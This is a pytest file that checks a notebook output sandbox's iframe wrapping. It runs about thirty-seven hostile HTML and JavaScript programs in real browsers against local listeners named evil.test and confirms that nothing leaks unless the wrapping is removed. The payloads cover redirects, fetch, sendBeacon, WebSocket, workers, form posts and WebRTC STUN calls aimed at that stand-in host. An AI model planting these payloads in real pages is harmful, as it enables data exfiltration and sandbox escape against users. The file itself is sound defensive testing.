"""A real browser shows programs in our frames: they run, and send nothing anywhere.

Every name is resolved to this machine, where listeners on other ports stand for all other origins and count what comes.
The same programs without our frames are the control: there, they get through.
"""

# ruff: noqa: E501 (a program reads best on one line)

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from sandbox_kernel.policy import frame
from sandbox_kernel.policy.output_policy import OutputPolicy
from tests.support.chromium import Evil, show
from tests.support.policy.hostile import HTML, MARKDOWN
from tests.support.policy.messages import filtered


@pytest.fixture(params=["chromium", pytest.param("firefox", marks=pytest.mark.long)])
def browser(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def programs(evil: Evil) -> dict[str, str]:
    """Return ways out of a frame, by name; each aims at an address that ends in its name."""
    at = f"http://evil.test:{evil.tcp}"
    stun = f"new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{evil.udp}'}}]}})"
    call = f"const c={stun};c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
    return {
        "location": f"<script>location='{at}/location?leak'</script>",
        "later": f"<script>setTimeout(()=>location.assign('{at}/later'),100)</script>",
        "refresh": f"<script></script><meta http-equiv=refresh content='0;url={at}/refresh'>",
        "blob": f"<script>location=URL.createObjectURL(new Blob([`<img src='{at}/blob'>`],{{type:'text/html'}}))</script>",
        "data": f"<script>location='data:text/html,'+encodeURIComponent(`<img src='{at}/data'>`)</script>",
        "top": f"<script>try{{top.location='{at}/top'}}catch(e){{}}</script>",
        "parent": f"<script>try{{parent.location='{at}/parent'}}catch(e){{}}</script>",
        "open": f"<script>window.open('{at}/open')</script>",
        "click": f"<a id=a href='{at}/click' ping='{at}/ping'>x</a><script>a.click()</script>",
        "download": f"<a id=a href='{at}/download' download>x</a><script>a.click()</script>",
        "form": f"<form id=f action='{at}/form' method=post></form><script>f.submit()</script>",
        "img": f"<script></script><img src='{at}/img'><img srcset='{at}/img 1x'>",
        "css": f"<script></script><style>body{{background:url({at}/css)}}</style>",
        "link": f"<script></script><link rel=stylesheet href='{at}/link'>",
        "prefetch": f"<script></script><link rel=prefetch href='{at}/prefetch'>",
        "preload": f"<script></script><link rel=preload as=script href='{at}/preload'>",
        "fetch": f"<script>fetch('{at}/fetch',{{mode:'no-cors'}})</script>",
        "xhr": f"<script>x=new XMLHttpRequest;x.open('GET','{at}/xhr');x.send()</script>",
        "beacon": f"<script>navigator.sendBeacon('{at}/beacon','x')</script>",
        "events": f"<script>new EventSource('{at}/events')</script>",
        "ws": f"<script>new WebSocket('ws://evil.test:{evil.tcp}/ws')</script>",
        "worker": f"<script>new Worker(URL.createObjectURL(new Blob([`importScripts('{at}/worker')`])))</script>",
        "script": f"<script></script><script src='{at}/script'></script>",
        "import": f"<script>import('{at}/import')</script>",
        "iframe": f"<script></script><iframe src='{at}/iframe'></iframe>",
        "inner": f"<iframe id=i></iframe><script>i.contentWindow.location='{at}/inner'</script>",
        "target": f"<iframe name=n></iframe><a id=a href='{at}/target' target=n>x</a><script>a.click()</script>",
        "srcdoc": f"<script></script><iframe srcdoc=\"<img src='{at}/srcdoc'><script>location='{at}/srcdoc'</script>\"></iframe>",
        "object": f"<script></script><object data='{at}/object'></object><embed src='{at}/object'>",
        "video": f"<script></script><video src='{at}/video' poster='{at}/video'></video>",
        "svg": f"<svg><image href='{at}/svg'/></svg>",
        "rules": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{at}/rules"]}}]}}</script>',
        "stun": f"<script>{call}</script>",
        "stun in a frame": f'<script></script><iframe srcdoc="<script>{call}</script>"></iframe>',
        "stun in a made frame": "<script>const f=document.createElement('iframe');"
        f"f.srcdoc='<script>'+{call!r}+'</'+'script>';document.body.append(f)</script>",
        "stun by a handler": f'<script></script><img src=x onerror="{call}">',
        "page": "<script>top.postMessage('ran','*');try{top.document.title='taken'}catch(e){}</script>",
    }


def test_programs_in_our_frames_run_and_send_nothing(evil: Evil, tmp_path: Path, browser: str) -> None:
    """No request of any kind; a browser may connect before it refuses to navigate, but then says nothing."""
    asked = show([frame.wrap(program) for program in programs(evil).values()], evil, tmp_path, browser)
    assert evil.requests == []
    assert evil.datagrams == []
    assert "/message" in asked
    assert "/done?clean" in asked


def control(evil: Evil, tmp_path: Path, browser: str, names: list[str], wrap: Callable[[str], str]) -> set[str]:
    show([wrap(programs(evil)[name]) for name in names], evil, tmp_path, browser)
    return evil.paths()


def test_without_our_frames_the_same_programs_get_through(evil: Evil, tmp_path: Path, browser: str) -> None:
    """The control for the policy and the guard; programs that would leave the page are left out."""
    names = ["img", "css", "link", "fetch", "xhr", "beacon", "events", "ws", "worker", "script", "import"]
    names += ["iframe", "inner", "target", "srcdoc", "object", "video", "svg", "stun", "page"]
    got = control(evil, tmp_path, browser, names, lambda program: f"<div>{program}</div>".replace("const c=", "var c="))
    assert set(names) - got <= {"stun", "page", "inner", "target"}
    assert evil.datagrams


def test_in_a_single_frame_a_program_navigates_away_with_a_secret(evil: Evil, tmp_path: Path, browser: str) -> None:
    """The control for the frame around the frame: the same policy alone does not hold a document in its place."""

    def single(program: str) -> str:
        outer = frame._SRCDOC.search(frame.wrap(program))
        assert outer is not None
        inner = frame._SRCDOC.search(frame._unquote(outer[1]))
        assert inner is not None
        return f'<iframe sandbox="allow-scripts" srcdoc="{inner[1]}"></iframe>'

    got = control(evil, tmp_path, browser, ["location", "later", "fetch", "img"], single)
    assert {name.partition("?")[0] for name in got} == {"location", "later"}


def page_of(sources: list[str]) -> str:
    """Return a script that puts each source into the page as JupyterLab does: as markup, its scripts then run."""
    data = json.dumps(sources).replace("<", "\\u003c")
    return f"""<script>
        window.onerror = () => true;
        for (const source of {data}) {{
            const output = document.createElement('div');
            document.body.append(output);
            output.innerHTML = source;
            for (const script of output.querySelectorAll('script')) {{
                const again = document.createElement('script');
                for (const one of script.attributes) again.setAttribute(one.name, one.value);
                again.textContent = script.textContent;
                script.replaceWith(again);
            }}
        }}
        for (const link of document.querySelectorAll('a[href^="java"], [onfocus]')) {{ link.click(); link.focus(); }}
        setTimeout(() => {{ document.title = String(window.pwned) + getComputedStyle(document.body).display; }}, 2000);
        </script>"""


def test_hostile_outputs_run_nothing_and_load_nothing_in_a_page(evil: Evil, tmp_path: Path, browser: str) -> None:
    """Every output of the corpus, in one page, through the browser's own parser."""
    at = f"http://evil.test:{evil.tcp}"
    sources = []
    for mode in ("safe", "strict"):
        policy = OutputPolicy(mode)
        sources += [
            filtered({"text/html": source.replace("http://evil.test", at)}, policy)[0]["text/html"]
            for source in HTML.values()
        ]
        for source in MARKDOWN.values():
            data, _ = filtered({"text/markdown": source.replace("http://evil.test", at)}, policy)
            sources.append(data.get("text/html", ""))
    asked = show([page_of(sources)], evil, tmp_path, browser)
    assert evil.requests == []
    assert "/done?undefinedblock" in asked


def test_the_same_outputs_unfiltered_run_and_load(evil: Evil, tmp_path: Path, browser: str) -> None:
    """The control. What takes the page away, or swallows the rest of it, is left out."""
    at = f"http://evil.test:{evil.tcp}"
    sources = [source.replace("http://evil.test", at) for name, source in HTML.items() if "refresh" not in name]
    asked = show([page_of(sources)], evil, tmp_path, browser)
    assert "leak" in evil.paths()
    assert "/done?1none" in asked
